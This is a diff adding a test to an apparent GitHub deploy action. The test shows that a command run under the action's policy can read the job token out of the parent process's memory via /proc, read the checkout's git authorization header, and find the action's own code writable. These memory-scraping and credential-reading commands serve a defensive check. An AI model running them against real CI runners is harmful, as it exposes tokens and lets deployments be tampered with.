@@ -1,7 +1,7 @@
 /** What a hostile command of the policy, or an earlier step of the job, can reach; on the built bundle of deploy. */
 import { execFileSync } from "node:child_process";
 import { createHash } from "node:crypto";
-import { appendFileSync, mkdirSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from "node:fs";
+import { appendFileSync, existsSync, mkdirSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from "node:fs";
 import { tmpdir } from "node:os";
 import { join } from "node:path";
 import { type LocalGitHub, startLocalGitHub } from "@octoacme/local-github/server.ts";
@@ -91,6 +91,46 @@ describe("a command of the policy", () => {
 		expect(environments).not.toMatch(/^(?:INPUT_|ACTIONS_|GITHUB_(?:OUTPUT|ENV|STATE|PATH)=)/m);
 		expect(environments).not.toMatch(/canary/);
 	});
+
+	/** Looks for a text in what a process may write of its memory. */
+	const SEARCH = `
+		const { openSync, readFileSync, readSync } = require("node:fs");
+		const [, , pid, file] = process.argv;
+		const needle = readFileSync(file);
+		const memory = openSync("/proc/" + pid + "/mem", "r");
+		const isFound = readFileSync("/proc/" + pid + "/maps", "utf8").split("\\n").some((line) => {
+			const [, from, to] = /^([0-9a-f]+)-([0-9a-f]+) rw/.exec(line) ?? [];
+			if (from === undefined) return false;
+			const bytes = Buffer.alloc(Math.min(Number("0x" + to) - Number("0x" + from), 256_000_000));
+			try {
+				readSync(memory, bytes, 0, bytes.length, BigInt("0x" + from));
+			} catch {}
+			return bytes.includes(needle);
+		});
+		console.log(isFound ? "MEMORY holds it" : "MEMORY holds nothing");`;
+	const tracesOthers = () => {
+		const scope = "/proc/sys/kernel/yama/ptrace_scope";
+		return process.getuid?.() === 0 || !existsSync(scope) || readFileSync(scope, "utf8").trim() === "0";
+	};
+
+	it.runIf(process.platform === "linux" && tracesOthers())(
+		"reaches what the documentation says that it reaches: memory, credentials of the checkout, the action's own code",
+		async () => {
+			const needle = join(kept, "needle");
+			const search = join(kept, "search.cjs");
+			writeFileSync(search, SEARCH);
+			const job = await openJob(
+				`"${process.execPath}" "${search}" $PPID "${needle}"; git config --get http.https://github.com/.extraheader; tr '\\0' '\\n' < /proc/$PPID/cmdline | grep dist/index.js | while read -r file; do test -w "$file" && echo CODE writable; done`,
+			);
+			writeFileSync(needle, job.token);
+			job.git("config", "http.https://github.com/.extraheader", "AUTHORIZATION: basic c2VjcmV0");
+			const { log, outputs } = await job.deploy();
+			expect(outputs, log).toMatchObject({ decision: "deployed" });
+			expect(log).toContain("MEMORY holds it");
+			expect(log).toContain("AUTHORIZATION: basic c2VjcmV0");
+			expect(log).toContain("CODE writable");
+		},
+	);
 
 	it("hands nothing to later steps or to the step's own post phase", async () => {
 		const job = await openJob(
